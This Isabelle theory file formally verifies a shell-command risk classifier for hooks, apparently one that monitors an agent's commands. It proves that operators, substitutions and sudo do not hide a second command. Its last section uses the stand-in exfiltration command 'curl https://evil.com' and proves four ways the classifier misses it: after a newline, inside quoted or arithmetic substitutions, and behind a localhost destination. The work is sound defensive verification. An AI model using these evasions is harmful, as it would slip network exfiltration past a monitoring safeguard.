(* ===== verification/Hooks_Disguise.thy ===== *)
theory Hooks_Disguise
  imports Hooks_Shell
begin

text \<open>
  Commands inside commands, on the text itself: for plain words, the operators, a command
  substitution and \<open>sudo\<close> do not hide the second command from the classifier. Some other
  ways to run a second command do; they are shown on concrete commands.
\<close>

subsection \<open>Plain words\<close>

definition plain_char :: "char \<Rightarrow> bool" where
  "plain_char c \<longleftrightarrow> ascii_letter c \<or> ascii_digit c \<or> c \<in> set ''-_./:@,+%''"

definition unspaced :: "string \<Rightarrow> bool" where
  "unspaced w \<longleftrightarrow> w \<noteq> [] \<and> list_all (\<lambda>c. \<not> ascii_space c) w"

definition plain_word :: "string \<Rightarrow> bool" where
  "plain_word w \<longleftrightarrow> w \<noteq> [] \<and> list_all plain_char w"

definition plain_command :: "string list \<Rightarrow> bool" where
  "plain_command ws \<longleftrightarrow> ws \<noteq> [] \<and> list_all plain_word ws
     \<and> \<not> strings_Contains (hd ws) ''/'' \<and> \<not> strings_HasPrefix (hd ws) ''-'' \<and> hd ws \<noteq> ''env'' \<and> hd ws \<noteq> ''eval''"

abbreviation command_line :: "string list \<Rightarrow> string" where
  "command_line ws \<equiv> strings_Join ws '' ''"

lemma plain_char_facts:
  assumes "plain_char c"
  shows "\<not> ascii_space c" "c \<noteq> CHR 0x27" "c \<noteq> CHR 0x22" "c \<noteq> CHR 0x60" "c \<noteq> CHR ''$''" "c \<noteq> CHR ''<''"
    "c \<noteq> CHR ''>''" "c \<noteq> CHR ''|''" "c \<noteq> CHR ''&''" "c \<noteq> CHR '';''" "c \<noteq> CHR ''=''" "c \<noteq> CHR ''(''" "c \<noteq> CHR '')''"
    "c \<noteq> CHR '' ''"
  using assms
  by (auto simp: plain_char_def ascii_letter_def ascii_digit_def ascii_space_def Let_def)

lemma plain_word_unspaced: "plain_word w \<Longrightarrow> unspaced w"
  by (auto simp: plain_word_def unspaced_def list_all_iff plain_char_facts)

lemma command_line_Cons: "command_line (w # ws) = w @ (if ws = [] then [] else '' '' @ command_line ws)"
  by (cases ws) auto

lemma command_line_append:
  "xs \<noteq> [] \<Longrightarrow> ys \<noteq> [] \<Longrightarrow> command_line (xs @ ys) = command_line xs @ '' '' @ command_line ys"
  by (induction xs) (auto simp: command_line_Cons)

lemma Fields_command_line: "list_all unspaced ws \<Longrightarrow> strings_Fields (command_line ws) = ws"
proof (induction ws)
  case Nil
  then show ?case by (simp add: strings_Fields_def)
next
  case (Cons w ws)
  let ?r = "if ws = [] then [] else '' '' @ command_line ws"
  have w: "w \<noteq> []" "\<forall>c\<in>set w. \<not> ascii_space c" using Cons.prems by (auto simp: unspaced_def list_all_iff)
  have sp: "ascii_space (CHR '' '')" by (simp add: ascii_space_def)
  have tw: "takeWhile (\<lambda>c. \<not> ascii_space c) (w @ ?r) = w" "dropWhile (\<lambda>c. \<not> ascii_space c) (w @ ?r) = ?r"
    using w sp by (simp_all add: takeWhile_append dropWhile_append)
  have d: "dropWhile ascii_space (w @ ?r) = w @ ?r" using w by (cases w) auto
  have "FieldsFunc ascii_space (w @ ?r) = w # FieldsFunc ascii_space ?r"
    by (subst FieldsFunc.simps) (simp only: d tw Let_def append_is_Nil_conv w(1) simp_thms if_False)
  then show ?case using Cons sp by (simp add: command_line_Cons strings_Fields_def)
qed

lemma TrimSpace_tight:
  "s \<noteq> [] \<Longrightarrow> \<not> ascii_space (hd s) \<Longrightarrow> \<not> ascii_space (last s) \<Longrightarrow> strings_TrimSpace (replicate m (CHR '' '') @ s @ replicate n (CHR '' '')) = s"
proof -
  assume s: "s \<noteq> []" "\<not> ascii_space (hd s)" "\<not> ascii_space (last s)"
  have sp: "ascii_space (CHR '' '')" by (simp add: ascii_space_def)
  have d1: "dropWhile ascii_space (replicate m (CHR '' '') @ s @ replicate n (CHR '' '')) = s @ replicate n (CHR '' '')"
    using s(1,2) sp by (induction m) (simp_all add: dropWhile_eq_self_iff)
  have d2: "dropWhile ascii_space (replicate n (CHR '' '') @ rev s) = rev s"
    using s(1,3) sp by (induction n) (simp_all add: dropWhile_eq_self_iff hd_rev)
  show ?thesis unfolding strings_TrimSpace_def d1 by (simp add: d2)
qed

lemma command_line_ends:
  assumes "ws \<noteq> []" "list_all unspaced ws"
  shows "command_line ws \<noteq> []" "\<not> ascii_space (hd (command_line ws))" "\<not> ascii_space (last (command_line ws))"
  using assms
proof (induction ws)
  case (Cons w ws)
  {
    case 1
    then show ?case by (simp add: command_line_Cons unspaced_def)
  next
    case 2
    then show ?case by (cases w) (simp_all add: command_line_Cons unspaced_def)
  next
    case 3
    then show ?case using Cons by (auto simp: command_line_Cons unspaced_def list_all_iff)
  }
qed simp_all

lemma TrimSpace_command_line:
  assumes "ws \<noteq> []" "list_all unspaced ws"
  shows "strings_TrimSpace (replicate m (CHR '' '') @ command_line ws @ replicate n (CHR '' '')) = command_line ws"
  using TrimSpace_tight command_line_ends [OF assms] by blast

lemma Base_plain: "w \<noteq> [] \<Longrightarrow> CHR ''/'' \<notin> set w \<Longrightarrow> filepath_Base w = w"
proof -
  assume w: "w \<noteq> []" "CHR ''/'' \<notin> set w"
  then have "hd (rev w) \<noteq> CHR ''/''" by (metis hd_in_set rev_is_Nil_conv set_rev)
  then have "dropWhile (\<lambda>c. c \<in> set ''/'') (rev w) = rev w" using w by (simp add: dropWhile_eq_self_iff)
  moreover have "takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev w) = rev w" using w by (auto intro: takeWhile_eq_all_conv [THEN iffD2])
  ultimately show ?thesis
    using w unfolding filepath_Base_def strings_TrimRight_def Let_def by (simp del: takeWhile_eq_all_conv dropWhile_eq_self_iff)
qed

lemma Contains_byte: "strings_Contains s [c] \<longleftrightarrow> c \<in> set s"
  by (induction s) auto

lemma Normalize_plain_head:
  assumes "ws \<noteq> []" "list_all unspaced ws" "plain_word (hd ws)" "\<not> strings_Contains (hd ws) ''/''" "hd ws \<noteq> ''env''"
  shows "NormalizeCommand (command_line ws) = command_line ws" "normalized_command (command_line ws) = command_line ws"
proof -
  obtain w vs where w: "ws = w # vs" using assms(1) by (cases ws) auto
  have "CHR ''='' \<notin> set w" using assms(3) w plain_char_facts(11) by (auto simp: plain_word_def list_all_iff)
  then have a: "\<not> is_assignment w" by (simp add: is_assignment_def Contains_byte)
  have b: "filepath_Base w = w" using assms(3,4) w by (intro Base_plain) (auto simp: plain_word_def Contains_byte)
  have "strings_Fields (strings_TrimSpace (command_line ws)) = ws"
    using TrimSpace_command_line [OF assms(1,2), of 0 0] Fields_command_line [OF assms(2)] by simp
  then show "NormalizeCommand (command_line ws) = command_line ws"
    using w a b assms(5) by (simp add: NormalizeCommand_def command_words_def)
  then show "normalized_command (command_line ws) = command_line ws"
    by (simp add: normalized_command_def)
qed

subsection \<open>Taking a compound command apart\<close>

definition inert :: "char \<Rightarrow> bool" where
  "inert c \<longleftrightarrow> plain_char c \<or> c = CHR '' ''"

lemma plain_line_inert: "list_all plain_word ws \<Longrightarrow> list_all inert (command_line ws)"
  by (induction ws) (auto simp: command_line_Cons plain_word_def inert_def list_all_iff)

lemma inert_facts:
  assumes "inert c"
  shows "c \<noteq> CHR 0x27" "c \<noteq> CHR 0x22" "c \<noteq> CHR 0x60" "c \<noteq> CHR ''$''" "c \<noteq> CHR ''<''" "c \<noteq> CHR ''>''"
    "c \<noteq> CHR ''|''" "c \<noteq> CHR ''&''" "c \<noteq> CHR '';''" "c \<noteq> CHR ''(''" "c \<noteq> CHR '')''"
proof -
  have "plain_char c \<or> c = CHR '' ''" using assms by (simp add: inert_def)
  then show "c \<noteq> CHR 0x27" "c \<noteq> CHR 0x22" "c \<noteq> CHR 0x60" "c \<noteq> CHR ''$''" "c \<noteq> CHR ''<''" "c \<noteq> CHR ''>''"
    "c \<noteq> CHR ''|''" "c \<noteq> CHR ''&''" "c \<noteq> CHR '';''" "c \<noteq> CHR ''(''" "c \<noteq> CHR '')''"
    using plain_char_facts by (elim disjE; force)+
qed

lemma split_inert: "list_all inert s \<Longrightarrow> split_compound False False cur (s @ r) = split_compound False False (rev s @ cur) r"
proof (induction s arbitrary: cur)
  case (Cons c s)
  then have "inert c" by simp
  then show ?case using Cons inert_facts [of c] by simp
qed simp

lemma extract_inert:
  "list_all (\<lambda>c. inert c \<or> c \<in> set ''|&;'') s \<Longrightarrow> extract_substitutions False (s @ r) = extract_substitutions False r"
proof (induction s)
  case (Cons c s)
  then have "c \<noteq> CHR 0x27" "c \<noteq> CHR 0x60" "c \<noteq> CHR ''$''" "\<not> substitution_start c"
    using inert_facts [of c] by (auto simp: substitution_start_def)
  then show ?case using Cons by simp
qed simp

definition operators :: "string list" where
  "operators = [''&&'', ''||'', ''|'', '';'', ''&'']"

lemma split_operator:
  assumes "op \<in> set operators" "list_all inert a" "list_all inert b" "b \<noteq> []"
  shows "SplitCompoundCommand (a @ '' '' @ op @ '' '' @ b) = [a @ '' '', '' '' @ b]"
proof -
  have b: "split_compound False False cur b = [rev cur @ b]" for cur
    using split_inert [OF assms(3), of cur "[]"] assms(4) by simp
  have "split_compound False False [] (a @ '' '' @ op @ '' '' @ b) = split_compound False False (rev a) ('' '' @ op @ '' '' @ b)"
    using split_inert [OF assms(2), of "[]"] by simp
  also have "\<dots> = [a @ '' '', '' '' @ b]"
    using assms(1) by (auto simp: operators_def drop_same_def b)
  finally show ?thesis by (simp add: SplitCompoundCommand_def)
qed

lemma plain_segment: "plain_command ws \<Longrightarrow> segment_commands (replicate m (CHR '' '') @ command_line ws @ replicate n (CHR '' '')) = [replicate m (CHR '' '') @ command_line ws @ replicate n (CHR '' '')]"
proof -
  assume p: "plain_command ws"
  then have u: "ws \<noteq> []" "list_all unspaced ws" by (auto simp: plain_command_def list_all_iff plain_word_unspaced)
  have t: "strings_TrimSpace (command_line ws) = command_line ws" using TrimSpace_command_line [OF u, of 0 0] by simp
  have "ExtractEvalArguments (command_line ws) = None"
    using p by (simp add: ExtractEvalArguments_def t Fields_command_line [OF u(2)] plain_command_def)
  then show ?thesis unfolding segment_commands_def TrimSpace_command_line [OF u] by simp
qed

lemma runs_operator:
  assumes "op \<in> set operators" "plain_command ws" "plain_command vs"
  shows "runs (command_line ws @ '' '' @ op @ '' '' @ command_line vs) (command_line vs)"
proof -
  let ?a = "command_line ws" and ?b = "command_line vs"
  let ?t = "?a @ '' '' @ op @ '' '' @ ?b"
  have p: "list_all plain_word ws" "list_all plain_word vs" "ws \<noteq> []" "vs \<noteq> []"
    using assms by (auto simp: plain_command_def)
  then have u: "list_all unspaced ws" "list_all unspaced vs" by (auto simp: list_all_iff plain_word_unspaced)
  have op: "unspaced op" "list_all (\<lambda>c. inert c \<or> c \<in> set ''|&;'') op"
    using assms(1) by (auto simp: operators_def unspaced_def ascii_space_def)
  have line: "?t = command_line (ws @ op # vs)"
    using p by (simp add: command_line_append command_line_Cons)
  have all: "list_all unspaced (ws @ op # vs)" using u op by simp
  have trim: "strings_TrimSpace ?t = ?t"
    unfolding line using TrimSpace_command_line [of "ws @ op # vs" 0 0] all by simp
  have norm: "normalized_command ?t = ?t"
    unfolding line using p all assms(2) by (intro Normalize_plain_head(2)) (auto simp: plain_command_def list_all_iff hd_append)
  have inert: "list_all inert ?a" "list_all inert ?b" "?b \<noteq> []"
    using p plain_line_inert command_line_ends(1) [OF p(4) u(2)] by simp_all
  have "list_all (\<lambda>c. inert c \<or> c \<in> set ''|&;'') ?t"
    using inert op by (auto simp: list_all_iff inert_def)
  from extract_inert [OF this, of "[]"] have none: "ExtractCommandSubstitutions ?t = []"
    by (simp add: ExtractCommandSubstitutions_def)
  have segs: "SplitCompoundCommand ?t = [?a @ '' '', '' '' @ ?b]" by (rule split_operator [OF assms(1) inert])
  have c: "segment_commands (?a @ '' '') = [?a @ '' '']" "segment_commands ('' '' @ ?b) = ['' '' @ ?b]"
    using plain_segment [OF assms(2), of 0 1] plain_segment [OF assms(3), of 1 0] by simp_all
  have subs: "sub_commands ?t = [?a @ '' '', '' '' @ ?b]"
    unfolding sub_commands_def command_skeleton_def none norm Let_def using segs c by simp
  have "?b \<in> set (parts_of (sub_commands ?t))"
    unfolding subs parts_of_def using TrimSpace_command_line [OF p(4) u(2), of 1 0] inert(3) by simp
  then show ?thesis using trim subs by (intro runs_part [OF _ _ runs_itself]) simp_all
qed

subsection \<open>Substitution and sudo\<close>

lemma command_line_snoc: "xs \<noteq> [] \<Longrightarrow> command_line (butlast xs @ [last xs @ s]) = command_line xs @ s"
  by (induction xs) (auto simp: command_line_Cons)

lemma command_line_head: "command_line ((p @ x) # xs) = p @ command_line (x # xs)"
  by (simp add: command_line_Cons)

definition substituted :: "string list \<Rightarrow> string list" where
  "substituted vs = (let xs = (''$('' @ hd vs) # tl vs in butlast xs @ [last xs @ '')''])"

lemma substituted_line:
  assumes "vs \<noteq> []" "list_all unspaced vs"
  shows "command_line (substituted vs) = ''$('' @ command_line vs @ '')''" "list_all unspaced (substituted vs)"
proof -
  obtain v us where v: "vs = v # us" using assms(1) by (cases vs) auto
  show "command_line (substituted vs) = ''$('' @ command_line vs @ '')''"
    unfolding substituted_def Let_def using v by (simp add: command_line_snoc command_line_head del: append_Cons butlast.simps last.simps)
  have x: "list_all unspaced ((''$('' @ v) # us)" using assms v by (auto simp: unspaced_def ascii_space_def)
  have w: "unspaced (w @ '')'')" if "unspaced w" for w using that by (auto simp: unspaced_def ascii_space_def)
  let ?xs = "(''$('' @ v) # us"
  have "?xs = butlast ?xs @ [last ?xs]" by simp
  then have "list_all unspaced (butlast ?xs)" "unspaced (last ?xs)" using x by (metis list.pred_inject(2) list_all_append)+
  then show "list_all unspaced (substituted vs)" unfolding substituted_def Let_def using v w by simp
qed

lemma skip_inert: "list_all inert s \<Longrightarrow> skipBalanced d False (s @ r) = apfst (append s) (skipBalanced d False r)"
proof (induction s)
  case (Cons c s)
  then have "inert c" by simp
  then show ?case using Cons inert_facts [of c] by (simp add: apfst_def prod.map_comp comp_def id_def)
qed (simp add: apfst_def map_prod_def)

lemma strip_inert: "list_all inert s \<Longrightarrow> strip_substitutions False (s @ r) = s @ strip_substitutions False r"
proof (induction s)
  case (Cons c s)
  then have "inert c" by simp
  then show ?case using Cons inert_facts [of c] by (simp add: substitution_start_def)
qed simp

lemma runs_substitution:
  assumes "plain_command ws" "plain_command vs"
  shows "runs (command_line ws @ '' $('' @ command_line vs @ '')'') (command_line vs)"
proof -
  let ?a = "command_line ws" and ?b = "command_line vs"
  let ?t = "?a @ '' $('' @ ?b @ '')''"
  have p: "list_all plain_word ws" "list_all plain_word vs" "ws \<noteq> []" "vs \<noteq> []"
    using assms by (auto simp: plain_command_def)
  then have u: "list_all unspaced ws" "list_all unspaced vs" by (auto simp: list_all_iff plain_word_unspaced)
  have line: "?t = command_line (ws @ substituted vs)"
    using p substituted_line [OF p(4) u(2)] by (simp add: command_line_append substituted_def Let_def)
  have all: "list_all unspaced (ws @ substituted vs)" using u substituted_line(2) [OF p(4) u(2)] by simp
  have trim: "strings_TrimSpace ?t = ?t"
    unfolding line using TrimSpace_command_line [of "ws @ substituted vs" 0 0] all p by simp
  have norm: "normalized_command ?t = ?t"
    unfolding line using p all assms(1) by (intro Normalize_plain_head(2)) (auto simp: plain_command_def list_all_iff hd_append)
  have inert: "list_all inert ?a" "list_all inert ?b" "?b \<noteq> []"
    using p plain_line_inert command_line_ends(1) [OF p(4) u(2)] by simp_all
  have a: "list_all inert (?a @ '' '')" using inert by (simp add: inert_def)
  have span: "skipBalanced 0 False (CHR ''('' # ?b @ '')'') = (CHR ''('' # ?b @ '')'', [])"
    using skip_inert [OF inert(2), of 1 "'')''"] by simp
  have nopen: "\<not> opens_paren (?b @ '')'')"
    using inert(2,3) inert_facts(10) [of "hd ?b"] by (cases ?b) (auto simp: opens_paren_def)
  have b: "strings_TrimSpace ?b = ?b" using TrimSpace_command_line [OF p(4) u(2), of 0 0] by simp
  have dollar: "substitution_start (CHR ''$'')" by (simp add: substitution_start_def)
  have "extract_substitutions False ?t = extract_substitutions False (CHR ''$'' # CHR ''('' # ?b @ '')'')"
    using extract_inert [of "?a @ '' ''" "CHR ''$'' # CHR ''('' # ?b @ '')''"] a by (simp add: list_all_iff)
  also have "\<dots> = [?b]"
    using nopen span dollar b inert(3) by (simp add: opens_paren_def trimmed_inner_def)
  finally have subst: "ExtractCommandSubstitutions ?t = [?b]" by (simp add: ExtractCommandSubstitutions_def)
  have "strip_substitutions False (CHR ''$'' # CHR ''('' # ?b @ '')'') = '' ''"
    unfolding strip_substitutions.simps(2) [of False "CHR ''$''"] span using dollar by (simp add: opens_paren_def)
  then have "strip_substitutions False ?t = ?a @ '' '' @ '' ''"
    using strip_inert [OF a, of "CHR ''$'' # CHR ''('' # ?b @ '')''"] by simp
  then have skel: "command_skeleton ?t = ?a @ replicate 2 (CHR '' '')"
    using subst norm by (simp add: command_skeleton_def StripCommandSubstitutions_def numeral_2_eq_2)
  have "SplitCompoundCommand (?a @ replicate 2 (CHR '' '')) = [?a @ replicate 2 (CHR '' '')]"
    using split_inert [of "?a @ replicate 2 (CHR '' '')" "[]" "[]"] inert(1)
    by (simp add: SplitCompoundCommand_def inert_def numeral_2_eq_2)
  then have subs: "sub_commands ?t = [?a @ replicate 2 (CHR '' ''), ?b]"
    unfolding sub_commands_def subst skel Let_def using plain_segment [OF assms(1), of 0 2] by simp
  have "?b \<in> set (parts_of (sub_commands ?t))" unfolding subs parts_of_def using b inert(3) by simp
  then show ?thesis using trim subs by (intro runs_part [OF _ _ runs_itself]) simp_all
qed

lemma HasPrefix_append [simp]: "strings_HasPrefix (p @ s) p"
  by (simp add: HasPrefix_iff_prefix)

lemma runs_sudo:
  assumes "plain_command vs"
  shows "runs (''sudo '' @ command_line vs) (command_line vs)"
proof -
  let ?b = "command_line vs"
  let ?t = "''sudo '' @ ?b"
  have p: "list_all plain_word vs" "vs \<noteq> []" using assms by (auto simp: plain_command_def)
  have sudo: "plain_word ''sudo''" by (simp add: plain_word_def plain_char_def ascii_letter_def)
  have u: "list_all unspaced (''sudo'' # vs)" using p sudo by (auto simp: list_all_iff plain_word_unspaced)
  have line: "?t = command_line (''sudo'' # vs)" using p by (simp add: command_line_Cons)
  have trim: "strings_TrimSpace ?t = ?t"
    unfolding line using TrimSpace_command_line [of "''sudo'' # vs" 0 0] u by simp
  have norm: "normalized_command ?t = ?t"
    unfolding line using u sudo by (intro Normalize_plain_head(2)) simp_all
  have plain: "plain_command (''sudo'' # vs)" using p sudo by (simp add: plain_command_def)
  have inert: "list_all inert ?t" unfolding line using p sudo by (intro plain_line_inert) simp
  have none: "ExtractCommandSubstitutions ?t = []"
    using extract_inert [of ?t "[]"] inert by (simp add: ExtractCommandSubstitutions_def list_all_iff)
  have seg: "SplitCompoundCommand ?t = [?t]"
    using split_inert [OF inert, of "[]" "[]"] by (simp add: SplitCompoundCommand_def)
  have one: "segment_commands ?t = [?t]" using plain_segment [OF plain, of 0 0] line by simp
  have subs: "length (sub_commands ?t) \<le> 1"
    unfolding sub_commands_def command_skeleton_def none norm Let_def using seg one by simp
  have words: "strings_Fields ?t = ''sudo'' # vs" unfolding line by (rule Fields_command_line [OF u])
  have wrap: "ExtractShellWrapperInner ?t = None"
    unfolding ExtractShellWrapperInner_def Let_def trim words by (simp add: wrapper_shells_def Base_plain strings_ToLower_def ascii_lower_def)
  have issudo: "IsSudoCommand ?t"
    unfolding IsSudoCommand_def lower_trimmed_def trim any_prefix_def by (simp add: strings_ToLower_def ascii_lower_def)
  have "sudo_skip vs = vs" using assms by (cases vs rule: sudo_skip.cases) (auto simp: plain_command_def)
  then have strip: "StripSudoPrefix ?t = ?b" unfolding StripSudoPrefix_def trim words by simp
  show ?thesis
    using runs_elevated [of ?t ?b] trim norm subs wrap issudo strip runs_itself [of ?b] by simp
qed

text \<open>The disguises of a second command: the operators, a command substitution, \<open>sudo\<close>.\<close>

definition disguises :: "string list \<Rightarrow> string list \<Rightarrow> string list" where
  "disguises ws vs =
     map (\<lambda>op. command_line ws @ '' '' @ op @ '' '' @ command_line vs) operators
     @ [command_line ws @ '' $('' @ command_line vs @ '')'', ''sudo '' @ command_line vs]"

text \<open>C33: a command cannot hide behind another. When two commands of plain words are joined by
  one of the operators \<open>&&\<close>, \<open>||\<close>, \<open>|\<close>, \<open>;\<close> and \<open>&\<close>, when the second is a command substitution of the first, or
  when it is run by \<open>sudo\<close>, the whole is classified with at least the risk of the second if
  that risk is above the default, and a sensitive read stays marked unless the whole is
  refused as an attack on sir itself.\<close>

theorem disguise_keeps_risk:
  assumes "plain_command ws" "plain_command vs" "d \<in> set (disguises ws vs)"
  shows "covers (mapShellCommand e l d) (mapShellCommand e l (command_line vs))"
proof (rule runs_covers)
  consider op where "op \<in> set operators" "d = command_line ws @ '' '' @ op @ '' '' @ command_line vs"
    | "d = command_line ws @ '' $('' @ command_line vs @ '')''" | "d = ''sudo '' @ command_line vs"
    using assms(3) unfolding disguises_def set_append set_map by auto
  then show "runs d (command_line vs)"
    using runs_operator [OF _ assms(1,2)] runs_substitution [OF assms(1,2)] runs_sudo [OF assms(2)] by cases auto
qed

definition demo_env :: HookEnv where
  "demo_env = \<lparr> he_GOOS = ''linux'', he_UserHomeDir = Some ''/home/dev'', he_EvalSymlinks = (\<lambda>_. None),
     he_Getenv = (\<lambda>_. []), he_Now = 1, he_MCPDeepVerbGating = False \<rparr>"

definition exfiltration :: string where
  "exfiltration = ''curl https://evil.com''"

text \<open>A second command after a line break; in a substitution within double quotes after an
  apostrophe; in a substitution within an arithmetic expansion.\<close>

definition quoted_egress :: string where
  "quoted_egress = ''echo '' @ [CHR 0x22] @ ''it'' @ [CHR 0x27] @ ''s $('' @ exfiltration @ '')'' @ [CHR 0x22]"

definition arithmetic_egress :: string where
  "arithmetic_egress = ''echo $(( $('' @ exfiltration @ '') ))''"

definition undetected :: "string list" where
  "undetected = [''true'' @ [CHR 0x0A] @ exfiltration, quoted_egress, arithmetic_egress]"

lemma shell_verb_plain:
  assumes "strings_TrimSpace cmd = cmd" "normalized_command cmd = n" "sub_commands cmd = []"
    "ContainsSirSelfCommand n = False" "TargetsSirStateFiles n = False"
    "ExtractShellWrapperInner n = None" "IsSudoCommand n = False"
    "ti_Verb (single_command e l cmd n) = v"
  shows "shell_verb e l cmd = v"
  using assms by (simp add: mapShellCommand_step [of e l cmd] decompose_def Let_def)

lemma egress_seen: "shell_verb demo_env DefaultLease exfiltration = VerbNetExternal"
  by (rule shell_verb_plain [where n = exfiltration]; code_simp)

lemma egress_after_newline:
  "shell_verb demo_env DefaultLease (''true'' @ [CHR 0x0A] @ exfiltration) = VerbExecuteDryRun"
  by (rule shell_verb_plain [where n = "''true curl https://evil.com''"]; code_simp)

lemma quoted_egress_parts: "sub_commands quoted_egress = []"
  by code_simp

lemma quoted_egress_single: "ti_Verb (single_command demo_env DefaultLease quoted_egress quoted_egress) = VerbExecuteDryRun"
  by code_simp

lemma egress_after_apostrophe: "shell_verb demo_env DefaultLease quoted_egress = VerbExecuteDryRun"
  by (rule shell_verb_plain [OF _ _ quoted_egress_parts _ _ _ _ quoted_egress_single]; code_simp)

lemma arithmetic_egress_parts: "sub_commands arithmetic_egress = []"
  by code_simp

lemma arithmetic_egress_single:
  "ti_Verb (single_command demo_env DefaultLease arithmetic_egress arithmetic_egress) = VerbExecuteDryRun"
  by code_simp

lemma egress_in_arithmetic: "shell_verb demo_env DefaultLease arithmetic_egress = VerbExecuteDryRun"
  by (rule shell_verb_plain [OF _ _ arithmetic_egress_parts _ _ _ _ arithmetic_egress_single]; code_simp)

lemma egress_after_local: "shell_verb demo_env DefaultLease ''curl localhost https://evil.com'' = VerbNetLocal"
  by (rule shell_verb_plain [where n = "''curl localhost https://evil.com''"]; code_simp)

theorem disguise_keeps_risk_witness:
  "VerbRisk VerbNetExternal \<le> VerbRisk (shell_verb demo_env DefaultLease ''echo done && curl https://evil.com'')"
proof -
  have p: "plain_command [''echo'', ''done'']" "plain_command [''curl'', ''https://evil.com'']" by code_simp+
  have d: "''echo done && curl https://evil.com'' \<in> set (disguises [''echo'', ''done''] [''curl'', ''https://evil.com''])"
    by code_simp
  have r: "VerbRisk VerbExecuteDryRun < VerbRisk VerbNetExternal" by code_simp
  have e: "command_line [''curl'', ''https://evil.com''] = exfiltration" by (simp add: exfiltration_def)
  show ?thesis
    using disguise_keeps_risk [OF p d, of demo_env DefaultLease] r unfolding e covers_def egress_seen by simp
qed

text \<open>Ways to run a second command that the classifier does not see through. An external
  \<open>curl\<close> is egress on its own, but after a line break, in a command substitution within double
  quotes that also hold an apostrophe, and in a substitution within an arithmetic expansion
  it is classified as a local dry run; and only the first destination of a \<open>curl\<close> counts, so
  a local one in front makes the whole local. A shell runs all of them.\<close>

lemma evasions:
  "shell_verb demo_env DefaultLease exfiltration = VerbNetExternal
   \<and> list_all (\<lambda>cmd. shell_verb demo_env DefaultLease cmd = VerbExecuteDryRun) undetected
   \<and> shell_verb demo_env DefaultLease ''curl localhost https://evil.com'' = VerbNetLocal"
  unfolding undetected_def list.pred_inject(2)
  using egress_seen egress_after_newline egress_after_apostrophe egress_in_arithmetic egress_after_local
    list.pred_inject(1) by blast

end
